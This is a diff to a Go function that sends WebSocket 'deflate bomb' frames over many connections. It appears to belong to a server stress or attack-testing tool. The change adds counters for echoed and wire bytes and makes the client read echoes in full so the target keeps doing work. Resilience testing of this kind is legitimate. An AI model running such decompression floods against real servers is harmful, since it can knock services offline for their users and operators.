@@ -273,7 +273,7 @@ func deflateBomb(e *attackEnv) error {
 	payload := deflateBombPayload(e.o.BombInflated)
 	e.set("frame_bytes", len(payload))
 	end := time.Now().Add(e.o.BombFor)
-	var sent, echoes, reconnects atomic.Int64
+	var sent, echoes, echoBytes, echoWire, reconnects atomic.Int64
 	var notNegotiated atomic.Bool
 	var wg sync.WaitGroup
 	for range e.o.BombConns {
@@ -299,9 +299,15 @@ func deflateBomb(e *attackEnv) error {
 				stop := make(chan struct{})
 				go func() {
 					defer close(stop)
-					// Read and discard the echoes so that the server
-					// does real work rather than waiting on backpressure.
-					kind := w.readUntilClose(end, true, func(int64) { echoes.Add(1) })
+					// Read the echoes whole (inflated when the server
+					// compresses them) so that the server does real work
+					// rather than waiting on backpressure, and servers
+					// that echo compressed or plain cost the client alike.
+					kind := w.readEchoes(end, true, func(n, wire int64) {
+						echoes.Add(1)
+						echoBytes.Add(n)
+						echoWire.Add(wire)
+					})
 					if kind != "open" {
 						e.closed(kind)
 					}
@@ -329,6 +335,8 @@ func deflateBomb(e *attackEnv) error {
 	}
 	e.set("frames_sent", sent.Load())
 	e.set("echoes_read", echoes.Load())
+	e.set("echo_mib_read", echoBytes.Load()>>20)
+	e.set("echo_wire_mib", echoWire.Load()>>20)
 	e.set("reconnects", reconnects.Load())
 	return nil
 }
